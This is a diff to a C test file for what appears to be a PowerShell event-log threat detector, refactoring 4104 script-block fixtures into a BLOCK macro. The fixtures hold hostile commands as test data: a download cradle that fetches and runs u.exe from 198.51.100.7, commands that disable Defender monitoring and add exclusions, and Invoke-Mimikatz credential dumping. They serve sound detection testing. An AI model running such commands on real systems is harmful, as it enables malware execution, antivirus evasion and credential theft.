@@ -22,6 +22,13 @@
 	"</Channel>\n    <Computer>EX01.corp.example</Computer>\n  "          \
 	"</System>\n  " data "\n</Event>\n"
 #define D(n, v) "<Data Name=\"" n "\">" v "</Data>"
+/* A script block logged whole, in one 4104 event */
+#define BLOCK(text, id)                                                        \
+	EV("Microsoft-Windows-PowerShell",                                     \
+	   "Microsoft-Windows-PowerShell/Operational", 4104, 5,                \
+	   "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")        \
+	       D("ScriptBlockText", text)                                      \
+	           D("ScriptBlockId", id) "</EventData>")
 
 static void reader(void)
 {
@@ -279,14 +286,10 @@ static const struct {
      HC_NONE,
      HL_NOT_SEEN},
     {"a program downloaded, then started",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "(New-Object System.Net.WebClient).DownloadFile('http://"
-               "198.51.100.7/u.exe', \"$env:PUBLIC\\u.exe\"); "
-               "Start-Process \"$env:PUBLIC\\u.exe\"")
-                 D("ScriptBlockId", "b4") "</EventData>")},
+     {BLOCK("(New-Object System.Net.WebClient).DownloadFile('http://"
+            "198.51.100.7/u.exe', \"$env:PUBLIC\\u.exe\"); "
+            "Start-Process \"$env:PUBLIC\\u.exe\"",
+            "b4")},
      "download-cradle",
      HC_NONE,
      HL_NOT_SEEN},
@@ -381,13 +384,10 @@ static const struct {
      HC_NONE,
      HL_NOT_SEEN},
     {"an admin downloading an update to disk",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "Invoke-WebRequest -Uri https://download.microsoft.com/"
-               "x/Exchange2019-KB5019758-x64-en.msp -OutFile C:\\Updates\\"
-               "su.msp") D("ScriptBlockId", "b3") "</EventData>")},
+     {BLOCK("Invoke-WebRequest -Uri https://download.microsoft.com/"
+            "x/Exchange2019-KB5019758-x64-en.msp -OutFile C:\\Updates\\"
+            "su.msp",
+            "b3")},
      NULL,
      HC_NONE,
      HL_NOT_SEEN},
@@ -674,12 +674,7 @@ static const struct {
      HC_NONE,
      HL_NOT_SEEN},
     {"Set-MpPreference turning monitoring off (4104)",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "Set-MpPreference -DisableRealtimeMonitoring $true")
-                 D("ScriptBlockId", "d1") "</EventData>")},
+     {BLOCK("Set-MpPreference -DisableRealtimeMonitoring $true", "d1")},
      "defender-disabled",
      HC_NONE,
      HL_NOT_SEEN},
@@ -697,13 +692,9 @@ static const struct {
      HC_NONE,
      HL_NOT_SEEN},
     {"Add-MpPreference excluding Exchange's mailbox databases",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "Add-MpPreference -ExclusionPath \"D:\\Exchange Server\\V15\\"
-               "Mailbox\" -ExclusionExtension \".edb\"")
-                 D("ScriptBlockId", "d2") "</EventData>")},
+     {BLOCK("Add-MpPreference -ExclusionPath \"D:\\Exchange Server\\V15\\"
+            "Mailbox\" -ExclusionExtension \".edb\"",
+            "d2")},
      NULL,
      HC_NONE,
      HL_NOT_SEEN},
@@ -799,31 +790,17 @@ static const struct {
      HC_NONE,
      HL_NOT_SEEN},
     {"Invoke-Mimikatz in a script block",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")
-                 D("ScriptBlockId", "b5") "</EventData>")},
+     {BLOCK("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'", "b5")},
      "offensive-powershell",
      HC_NONE,
      HL_NOT_SEEN},
     {"an admin reading the AMSI documentation's cmdlet names",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText",
-               "Get-MpComputerStatus | Select AMServiceEnabled")
-                 D("ScriptBlockId", "b6") "</EventData>")},
+     {BLOCK("Get-MpComputerStatus | Select AMServiceEnabled", "b6")},
      NULL,
      HC_NONE,
      HL_NOT_SEEN},
     {"an admin's script block",
-     {EV("Microsoft-Windows-PowerShell",
-         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-             D("ScriptBlockText", "Get-Mailbox -ResultSize 10 | Format-List")
-                 D("ScriptBlockId", "b2") "</EventData>")},
+     {BLOCK("Get-Mailbox -ResultSize 10 | Format-List", "b2")},
      NULL,
      HC_NONE,
      HL_NOT_SEEN},
@@ -873,11 +850,7 @@ static void joined(void)
 static void creds_reset(void)
 {
 	static const char *const x[] = {
-	    EV("Microsoft-Windows-PowerShell",
-	       "Microsoft-Windows-PowerShell/Operational", 4104, 5,
-	       "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
-	           D("ScriptBlockText", "Invoke-Mimikatz -DumpCreds")
-	               D("ScriptBlockId", "c1") "</EventData>")};
+	    BLOCK("Invoke-Mimikatz -DumpCreds", "c1")};
 	struct hunt h = {.root = "t"};
 	struct buf b;
 
